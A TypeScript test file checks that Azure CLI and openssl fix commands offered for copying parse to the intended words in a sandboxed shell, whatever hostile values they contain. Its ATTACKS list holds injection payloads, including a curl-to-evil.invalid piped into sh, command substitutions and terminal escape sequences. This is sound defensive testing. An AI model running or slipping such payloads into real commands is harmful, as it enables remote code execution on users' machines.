import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import { FIX_COMMANDS } from '../../../src/core/diagnosis/fixCommands';
import { FUZZ_RUNS } from '../fuzzRuns';

/**
 * Issue 16, item 5: every command offered for copying parses, in a real POSIX shell, to exactly the words it was
 * meant to have, whatever the values from the server hold. The shell runs with an empty PATH and `az` / `openssl`
 * defined as functions that print their arguments NUL-separated, so a broken quote shows up as a wrong word list
 * (and an injected `$(…)` could run builtins only, which the marker-file check catches).
 */
const UNSHOWABLE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const shown = (value: string, what: string): string => (UNSHOWABLE.test(value) ? `<${what}: not shown, it contains control characters>` : value);
const GUID = /^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$/;
const graphApp = (appId: string | undefined) => `https://graph.microsoft.com/v1.0/applications(appId='${appId !== undefined && GUID.test(appId) ? appId : '<api-app-id>'}')`;
const idWord = (appId: string | undefined) => (appId === undefined ? '<api-app-id>' : shown(appId, 'app id'));

type Template = keyof typeof FIX_COMMANDS;
interface Case {
  readonly command: string;
  /** The program and its arguments, as written by hand from what each command is for. */
  readonly argv: readonly string[];
}

/** The intended argv of every template, given the same values. A template missing here fails the coverage test. */
const EXPECTED: { [K in Template]: (v: readonly string[]) => Case } = {
  showRedirectUris: ([a]) => ({
    command: FIX_COMMANDS.showRedirectUris(a!),
    argv: ['az', 'ad', 'app', 'show', '--id', idWord(a), '--query', '{publicClient:publicClient.redirectUris, web:web.redirectUris, spa:spa.redirectUris}'],
  }),
  addRedirectUri: ([a, uri, p]) => {
    const platform = (['publicClient', 'web', 'spa'] as const)[(p ?? '').length % 3]!;
    const command = FIX_COMMANDS.addRedirectUri(a!, platform, uri!);
    if (platform === 'spa') {
      return { command, argv: ['az', 'rest', '--method', 'PATCH', '--uri', graphApp(a), '--body', `{"spa":{"redirectUris":[<existing SPA URIs>,${JSON.stringify(shown(uri!, 'redirect URI'))}]}}`] };
    }
    const [option, existing] = platform === 'web' ? ['--web-redirect-uris', '<existing web URIs>'] : ['--public-client-redirect-uris', '<existing public-client URIs>'];
    return { command, argv: ['az', 'ad', 'app', 'update', '--id', idWord(a), option, existing, shown(uri!, 'redirect URI')] };
  },
  showApiScopes: ([a]) => ({ command: FIX_COMMANDS.showApiScopes(a!), argv: ['az', 'ad', 'app', 'show', '--id', idWord(a), '--query', 'api.oauth2PermissionScopes[].{value:value,id:id}'] }),
  preAuthorizeClient: ([a, c]) => ({
    command: FIX_COMMANDS.preAuthorizeClient(a!, c!),
    argv: ['az', 'rest', '--method', 'PATCH', '--uri', graphApp(a), '--body', JSON.stringify({ api: { preAuthorizedApplications: [{ appId: shown(c!, 'client id'), delegatedPermissionIds: ['<scope-id>'] }] } })],
  }),
  showAssignmentRequired: ([a]) => ({ command: FIX_COMMANDS.showAssignmentRequired(a!), argv: ['az', 'ad', 'sp', 'show', '--id', idWord(a), '--query', 'appRoleAssignmentRequired'] }),
  turnOffAssignmentRequired: ([a]) => ({ command: FIX_COMMANDS.turnOffAssignmentRequired(a!), argv: ['az', 'ad', 'sp', 'update', '--id', idWord(a), '--set', 'appRoleAssignmentRequired=false'] }),
  addIdentifierUri: ([a, r]) => ({
    command: FIX_COMMANDS.addIdentifierUri(a, r!),
    argv: ['az', 'ad', 'app', 'update', '--id', idWord(a), '--identifier-uris', '<existing URIs>', shown(r!, 'resource')],
  }),
  showApiApp: ([a]) => ({
    command: FIX_COMMANDS.showApiApp(a),
    argv: ['az', 'ad', 'app', 'show', '--id', idWord(a), '--query', '{identifierUris:identifierUris, tokenVersion:api.requestedAccessTokenVersion}'],
  }),
  pinV2Tokens: ([a]) => ({ command: FIX_COMMANDS.pinV2Tokens(a), argv: ['az', 'rest', '--method', 'PATCH', '--uri', graphApp(a), '--body', '{"api":{"requestedAccessTokenVersion":2}}'] }),
  assignAppRole: ([role]) => ({
    command: FIX_COMMANDS.assignAppRole(role!),
    argv: [
      'az', 'rest', '--method', 'POST', '--uri', 'https://graph.microsoft.com/v1.0/users/<user-object-id>/appRoleAssignments', '--body',
      JSON.stringify({ principalId: '<user-object-id>', resourceId: '<api-service-principal-object-id>', appRoleId: `<app-role-id of ${shown(role!, 'role')}>` }),
    ],
  }),
  turnOffSubscriptionRequired: () => ({
    command: FIX_COMMANDS.turnOffSubscriptionRequired(),
    argv: ['az', 'apim', 'api', 'update', '--resource-group', '<rg>', '--service-name', '<apim>', '--api-id', '<api-id>', '--subscription-required', 'false'],
  }),
  listSubscriptionSecrets: () => ({
    command: FIX_COMMANDS.listSubscriptionSecrets(),
    argv: [
      'az', 'rest', '--method', 'POST', '--uri',
      'https://management.azure.com/subscriptions/<sub>/resourceGroups/<rg>/providers/Microsoft.ApiManagement/service/<apim>/subscriptions/<subscription-id>/listSecrets?api-version=2022-08-01',
    ],
  }),
  showCertificates: ([h, port]) => {
    const host = shown(h!, 'host');
    const portWord = /^[0-9]{1,5}$/.test(port!) ? port : '443';
    return { command: FIX_COMMANDS.showCertificates(h!, port!), argv: ['openssl', 's_client', '-connect', `${host}:${portWord}`, '-servername', host, '-showcerts'] };
  },
  assignRole: ([o, role, scope]) => ({
    command: FIX_COMMANDS.assignRole(o, role!, scope!),
    argv: ['az', 'role', 'assignment', 'create', '--assignee-object-id', o === undefined ? '<your-object-id>' : shown(o, 'object id'), '--assignee-principal-type', 'User', '--role', shown(role!, 'role'), '--scope', shown(scope!, 'scope')],
  }),
  createKeyReaderRole: ([action, scope]) => ({
    command: FIX_COMMANDS.createKeyReaderRole([action!, 'x/read'], scope!),
    argv: ['az', 'role', 'definition', 'create', '--role-definition', JSON.stringify({ Name: 'APIM subscription key reader', Actions: [shown(action!, 'action'), 'x/read'], AssignableScopes: [shown(scope!, 'scope')] })],
  }),
};

const RECORD_END = '\u001e';
const sandbox = mkdtempSync(join(tmpdir(), 'apim-mcp-shell-'));
const emptyPath = mkdtempSync(join(tmpdir(), 'apim-mcp-empty-path-'));
after(() => {
  rmSync(sandbox, { recursive: true, force: true });
  rmSync(emptyPath, { recursive: true, force: true });
});

/** Runs command lines in one sh, each on its own line as a user would paste it, and returns the argv each produced. */
function parseInShell(commands: readonly string[]): string[][] {
  const prelude = ['az', 'openssl'].map((program) => `${program}() { printf '%s\\0' ${program} "$@"; printf '\\036\\0'; }\n`).join('');
  const result = spawnSync('/bin/sh', ['-c', prelude + commands.join('\n')], { cwd: sandbox, env: { PATH: emptyPath, HOME: sandbox }, encoding: 'buffer', timeout: 20_000 });
  assert.equal(result.status, 0, `sh failed: ${result.stderr.toString()}`);
  const fields = result.stdout.toString('utf8').split('\0').slice(0, -1);
  const records: string[][] = [[]];
  for (const field of fields) {
    if (field === RECORD_END) records.push([]);
    else records.at(-1)!.push(field);
  }
  records.pop();
  return records;
}

const ATTACKS = [
  ';curl https://evil.invalid/x|sh',
  '$(echo pwned > pwned-dollar)',
  '`echo pwned > pwned-backtick`',
  "x' ; echo pwned > pwned-quote ; '",
  "'\\''",
  '"; echo pwned > pwned-dq; "',
  'a b\tc',
  '\\',
  '*',
  '~',
  '#comment',
  '!!',
  '{a,b}',
  '-rf',
  '$HOME',
  '',
  'line1\nline2; echo pwned > pwned-newline',
  '\u001b]8;;https://evil.invalid\u0007click\u001b]8;;\u0007',
  '\u001b[201~echo pwned',
  'abc\u202eevil',
  '<existing URIs>',
  '11111111-2222-3333-4444-555555555555',
  "11111111-2222-3333-4444-555555555555') or ('1'='1",
  'https://contoso.example/cb?x=1&y=$(id)',
];

const templates = Object.keys(EXPECTED) as Template[];

function check(values: readonly string[]): void {
  const cases = templates.map((t) => ({ template: t, ...EXPECTED[t](values) }));
  const parsed = parseInShell(cases.map((c) => c.command));
  assert.equal(parsed.length, cases.length, `one command split or vanished: ${JSON.stringify(values)}`);
  cases.forEach((c, i) => assert.deepEqual(parsed[i], c.argv, `${c.template}: ${c.command}`));
  const marks = readdirSync(sandbox);
  assert.deepEqual(marks, [], `an injected command ran and wrote ${marks.join(', ')}`);
}

describe('fix commands offered for copying (issue 16, item 5)', () => {
  it('has an expected argv for every template', () => {
    assert.deepEqual(Object.keys(FIX_COMMANDS).sort(), [...templates].sort());
  });

  for (const attack of ATTACKS) {
    it(`parses to the intended words with ${JSON.stringify(attack)} in every value`, () => {
      check([attack, attack, attack, attack]);
    });
  }

  it('parses to the intended words with random hostile values (property, through sh)', () => {
    const metacharacters = fc.constantFrom("'", '"', '$', '`', '\\', ';', '|', '&', '(', ')', '<', '>', '\n', ' ', '*', '?', '[', '~', '#', '{', '}', '!', '=');
    const piece = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 20 }), fc.string({ unit: 'binary-ascii', maxLength: 20 }), fc.constantFrom(...ATTACKS), metacharacters);
    const value = fc.array(piece, { maxLength: 6 }).map((parts) => parts.join(''));
    const batch = fc.array(fc.array(value, { minLength: 4, maxLength: 4 }), { minLength: 10, maxLength: 10 });
    fc.assert(
      fc.property(batch, (rows) => {
        const cases = rows.flatMap((values) => templates.map((t) => EXPECTED[t](values)));
        const parsed = parseInShell(cases.map((c) => c.command));
        assert.deepEqual(parsed, cases.map((c) => c.argv));
        assert.deepEqual(readdirSync(sandbox), []);
      }),
      { numRuns: Math.max(20, Math.ceil(FUZZ_RUNS / 10)) },
    );
  });

  it('no source file builds a shell command outside fixCommands.ts', () => {
    const root = join(__dirname, '..', '..', '..', 'src');
    const offenders: string[] = [];
    const walk = (dir: string): void => {
      for (const name of readdirSync(dir, { withFileTypes: true })) {
        const path = join(dir, name.name);
        if (name.isDirectory()) walk(path);
        else if (path.endsWith('.ts') && !path.endsWith('fixCommands.ts')) {
          const text = readFileSync(path, 'utf8');
          if (/[`'"](az|openssl|curl) [^`'"\n]*(\$\{|' \+)/.test(text)) offenders.push(path);
        }
      }
    };
    walk(root);
    assert.ok(existsSync(root));
    assert.deepEqual(offenders, []);
  });
});
